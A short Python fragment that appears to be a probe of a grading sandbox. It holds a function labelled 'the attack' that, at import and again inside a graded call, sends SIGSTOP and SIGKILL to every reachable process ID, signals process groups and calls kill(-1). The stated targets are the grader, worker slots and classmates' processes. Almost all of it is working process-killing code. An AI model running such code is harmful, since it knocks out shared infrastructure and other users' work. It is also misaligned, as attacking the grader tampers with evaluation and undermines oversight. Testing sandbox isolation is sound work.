"""SIGSTOP then SIGKILL to every pid in /proc, to every pid number up to 100000 (the
grader's, the slots', the zygotes', classmates' workers), kill(-1) and killpg of every
group, at import and again from inside a graded call."""
# ---- the attack ----
def attack():
    me = os.getpid()
    hits = {}
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        visible = [int(p) for p in os.listdir("/proc") if p.isdigit()]
        for pid in visible + list(range(2, 100000)):
            if pid == me:
                continue
            try:
                os.kill(pid, sig)
                hits[sig.name] = hits.get(sig.name, 0) + 1
            except OSError:
                pass
        for pgid in range(2, 5000):
            try:
                os.killpg(pgid, signal.SIGSTOP if sig == signal.SIGSTOP else signal.SIGTERM)
                hits["pg"] = hits.get("pg", 0) + 1
            except OSError:
                pass
        try:
            os.kill(-1, sig)  # everyone we may signal (never ourselves)
            hits["-1 " + sig.name] = 1
        except OSError as exc:
            _note("kill -1", exc.strerror)
    _note("signals delivered", hits)
    _note("pids visible", sorted(int(p) for p in os.listdir("/proc") if p.isdigit())[:20])


_try("attack at import", attack)
attack_in_call = attack
